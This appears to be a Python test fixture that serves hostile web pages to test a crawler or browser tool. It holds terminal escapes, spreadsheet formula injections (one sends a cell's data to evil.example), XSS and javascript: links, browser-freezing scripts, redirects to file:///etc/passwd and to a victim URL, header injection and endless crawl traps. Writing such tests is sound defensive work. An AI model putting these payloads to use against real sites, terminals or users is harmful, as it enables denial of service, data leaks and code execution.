"""Attacks by what a page says or does: scripts, links, redirects, and text that is meant for the reader's terminal."""

from __future__ import annotations

import html
from urllib.parse import unquote

from tests.hostile.wire import Exchange, at

NAV = "<a href=/about>درباره ما</a> <a href=/contact>تماس با ما</a> <a href=/services>خدمات</a>"
HOME = f"<!doctype html><html lang=fa dir=rtl><title>اداره ثبت احوال نمونه</title><h1>میز خدمت</h1><nav>{NAV}</nav></html>"

# Terminal escapes, controls, directions and formulas; a report or a terminal must show them as letters or not at all.
ESCAPES = {
    "clear": "\x1b[2J\x1b[1;1H",
    "title": "\x1b]0;owned\x07",
    "link": "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;b3duZWQ=\x07",
    "c1": "\x9b31mred\x9b0m\x9d0;owned\x9c",
    "bell": "\x07\x08\x7f\r\x0b",
    "bidi": "\u202egnp.exe\u202c \u2066left\u2069 \u200frtl\u200e",
    "zero": "a\u200bd\u2060m\ufeffi\u00adn",
    "separator": "one\u2028two\u2029three\x85four",
}
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "=1+1\r\n=2+2",
    "＝1+1",
    '"=1+1","x',
)
MARKUP = (
    "</script><script>alert(1)</script><img src=x onerror=alert(2)>{{7*7}}{%raw%}[x](javascript:alert(3))**b**|c|`d`"
)

SCRIPTS = {
    "/loop": (
        "An endless loop after load.",
        "addEventListener('load', () => setTimeout(() => { while (true) {} }, 200))",
    ),
    "/loop-early": ("An endless loop in the head, before anything is shown.", "while (true) {}"),
    "/timers": (
        "Ten thousand timers that each make more of the page.",
        "for (let i = 0; i < 1e4; i++) setInterval(() => document.body?.append('x' + Math.random()), 0)",
    ),
    "/memory": (
        "Allocates array buffers and touches every page of them, hundreds of MB a second.",
        "const kept = []; (function grow() { for (let i = 0; i < 4; i++) kept.push(new Uint8Array(1 << 24).fill(7));"
        " document.title = kept.length * 16 + ' MB'; setTimeout(grow, 10) })()",
    ),
    "/workers": (
        "Two hundred workers that spin.",
        "const spin = URL.createObjectURL(new Blob(['while (true) {}']));"
        " window.all = Array.from({length: 200}, () => new Worker(spin))",
    ),
    "/alert": (
        "Alert, confirm, prompt and a question on leaving, again and again.",
        "onbeforeunload = e => { e.preventDefault(); return 'stay' };"
        " for (;;) { alert('a'); confirm('c'); prompt('p'); if (performance.now() > 6e5) break }",
    ),
    "/print": ("Prints itself, again and again.", "print(); setInterval(() => print(), 100)"),
    "/open": (
        "Opens windows, each of which does the same.",
        "const more = () => { for (let i = 0; i < 20; i++) { open('/open?' + Math.random());"
        " const a = document.createElement('a'); a.href = '/open?' + Math.random(); a.target = '_blank'; a.click() } };"
        " more(); setInterval(more, 50); onclick = more",
    ),
    "/history": (
        "Fills the history.",
        "setInterval(() => { for (let i = 0; i < 1000; i++) try { history.pushState(i, '', '?' + i) } catch {} }, 10)",
    ),
    "/reload": ("Reloads itself without end.", "location.replace('/reload?' + Math.random())"),
    "/download-page": (
        "Clicks on a link to a download of 2 GiB.",
        "onload = () => { const a = document.createElement('a'); a.href = '/download'; a.download = 'report.pdf';"
        " document.body.append(a); a.click() }",
    ),
    "/console": (
        "Floods the console.",
        "setInterval(() => { for (let i = 0; i < 1e4; i++) console.log('x'.repeat(1e4)) }, 0)",
    ),
    "/redefine": (
        "Breaks the tools of who evaluates scripts in it: JSON, arrays, the DOM and promises lie.",
        "JSON.stringify = () => '\\x1b[2J'; document.querySelectorAll = () => { while (true) {} };"
        " Object.prototype.toJSON = () => 'owned'; Array.prototype.map = function () { return [] };"
        " Object.defineProperty(document, 'title', {get() { return 'x'.repeat(1 << 28) }});"
        " window.Promise = function () { while (true) {} }",
    ),
}


def script(exchange: Exchange) -> None:
    """A page with one of the scripts."""
    text = f"<!doctype html><html lang=fa><title>script</title><body><script>{SCRIPTS[exchange.spot][1]}</script><p>متن</p>"
    exchange.page(text)


at(*SCRIPTS)(script)


@at("/", "/about", "/contact", "/services")
def home(exchange: Exchange) -> None:
    """An honest page: what the rest is held against."""
    exchange.page(HOME)


@at("/menu-with-loop")
def menu_with_loop(exchange: Exchange) -> None:
    """An honest page whose menu leads to one that loops without end, and to honest ones."""
    links = "".join(f"<li><a href={path}>{path}</a>" for path in ("/about", "/loop-early", "/contact", "/services"))
    exchange.page(
        HOME.replace("</body>", f"<ul>{links}</ul></body>") if "</body>" in HOME else f"{HOME}<ul>{links}</ul>"
    )


@at("/redirects/*")
def redirects(exchange: Exchange) -> None:
    """To N + 1, without end."""
    tail = exchange.tail
    exchange.redirect(f"/redirects/{int(tail) + 1 if tail.isdecimal() and len(tail) < 20 else 0}")


@at("/redirect-loop")
def redirect_loop(exchange: Exchange) -> None:
    """To itself."""
    exchange.redirect("/redirect-loop")


@at("/redirect-private")
def redirect_private(exchange: Exchange) -> None:
    """To the victim, by 302."""
    exchange.redirect(exchange.state.victim_url("redirect-private"))


@at("/redirect-file")
def redirect_file(exchange: Exchange) -> None:
    """To file:///etc/passwd."""
    exchange.redirect("file:///etc/passwd")


@at("/redirect-to")
def redirect_to(exchange: Exchange) -> None:
    """To whatever the query string says, unquoted: javascript:, data:, gopher:, odd spellings, an empty one."""
    exchange.redirect(unquote(exchange.path.partition("?")[2], "latin-1"))


@at("/meta-refresh-private")
def meta_refresh_private(exchange: Exchange) -> None:
    """To the victim, by meta refresh; ?road= names another road."""
    to = exchange.state.victim_url(exchange.asked("road", "meta-refresh-private"))
    exchange.page(f'<!doctype html><title>moved</title><meta http-equiv=refresh content="0;url={html.escape(to)}">')


@at("/refresh-header-private")
def refresh_header_private(exchange: Exchange) -> None:
    """To the victim, by a Refresh header; ?road= names another road."""
    to = exchange.state.victim_url(exchange.asked("road", "refresh-header-private"))
    exchange.page("<!doctype html><title>moved</title>", headers=[("Refresh", f"0;url={to}")])


@at("/frames/*")
def frames(exchange: Exchange) -> None:
    """Two frames, each with two frames, and so on."""
    tail = exchange.tail
    number = int(tail) if tail.isdecimal() and len(tail) < 20 else 1
    exchange.page(
        f"<!doctype html><iframe src=/frames/{2 * number}></iframe><iframe src=/frames/{2 * number + 1}></iframe>"
    )


@at("/many-links")
def many_links(exchange: Exchange) -> None:
    """10,000 links of the site's own."""
    exchange.page(
        "<!doctype html><title>links</title>" + "".join(f"<a href=/trap/{n}>{n}</a>\n" for n in range(10_000))
    )


@at("/trap/*")
def trap(exchange: Exchange) -> None:
    """A calendar without end: each page links to days, months and sessions that no other page has."""
    tail = exchange.tail
    number = int(tail) if tail.isdecimal() and len(tail) < 20 else 0
    days = "".join(f'<a href="/trap/{number * 30 + day}?sid={number}-{day}">{day}</a> ' for day in range(1, 31))
    months = f'<a href="/trap/{number + 1}">ماه بعد</a> <a href="{number}/{number + 1}">ماه قبل</a>'
    exchange.page(f"<!doctype html><html lang=fa><title>تقویم {number}</title><h1>{number}</h1>{days}{months}</html>")


@at("/long-url")
def long_url(exchange: Exchange) -> None:
    """Links of 60 kB and 2 MB, and one with 2,000 folders."""
    hrefs = ["/trap/1?" + "a" * 60_000, "/trap/2?" + "b" * (2 << 20), "/trap" + "/c" * 2000 + "/3"]
    exchange.page("<!doctype html><title>long</title>" + "".join(f'<a href="{href}">long</a>' for href in hrefs))


@at("/odd-links")
def odd_links(exchange: Exchange) -> None:
    """Links of every scheme, broken hosts, ports, userinfo, escapes and controls in addresses."""
    hrefs = [
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "file:///etc/passwd",
        "//",
        "///",
        "http://",
    ]
    hrefs += [
        "http://[",
        "http://[::1",
        "http://a:99999/",
        "http://a:b/",
        "http://.../",
        "http://xn--/",
        "http://%00/",
        "?",
    ]
    hrefs += [
        "mailto:a@b\nBcc: c@d",
        "tel:\x1b[2J",
        "HTTP:/about",
        "http:about",
        "\\\\evil.example\\x",
        "/%2e%2e/%2e%2e/etc",
    ]
    hrefs += [
        "http://user:pass@127.0.0.1/",
        "/a\r\nX-Injected: 1",
        "/é/ن?ی=\udc80#\u202e",
        "view-source:/",
        "blob:null",
        "#",
    ]
    text = "".join(f'<a href="{html.escape(href)}">{html.escape(href)}</a>\n' for href in hrefs)
    exchange.page(("<!doctype html><meta charset=utf-8><title>odd</title>" + text).encode("utf-8", "surrogatepass"))


@at("/escapes")
def escapes(exchange: Exchange) -> None:
    """Terminal escapes, bidi overrides and formulas in title, headings, links, alt texts and response headers."""
    every = "".join(ESCAPES.values())
    parts = [f"<!doctype html><html lang='fa{ESCAPES['title']}'><head><title>{every}</title>"]
    parts += [f'<meta name=description content="{every}"><meta name=generator content="{every}"></head><body>']
    for name, value in ESCAPES.items():
        parts += [
            f"<h1>{name} {value}</h1><a href='/about?{name}={value}'>{value}</a><img src=/i.png alt='{value}'>\n"
        ]
        parts += [f"<label for=x{value}>{value}</label><input id=x{value} name='{value}'>\n"]
    parts += [f"<h2>{html.escape(one)}</h2><a href=/about>{html.escape(one)}</a>\n" for one in (*FORMULAS, MARKUP)]
    odd = [
        ("X-Escape", "\x1b[2J\x1b]0;owned\x07"),
        ("X-Latin", "caf\xe9"),
        ("X-C1", "\x9b31m"),
        ("X-Formula", "=1+1"),
    ]
    exchange.page("".join(parts), headers=[("Server", "nginx \x1b[31m\x9b0m =cmd|'/C calc'!A0"), *odd])


@at("/svg-script")
def svg_script(exchange: Exchange) -> None:
    """An SVG document that runs a script and fetches the victim."""
    to = html.escape(exchange.state.victim_url("svg-document", "png"))
    body = f"<script>fetch('{to}', {{mode: 'no-cors'}})</script><image href='{to}-image' width='9' height='9'/>"
    exchange.page(f"<svg xmlns='http://www.w3.org/2000/svg'>{body}</svg>", kind="image/svg+xml")
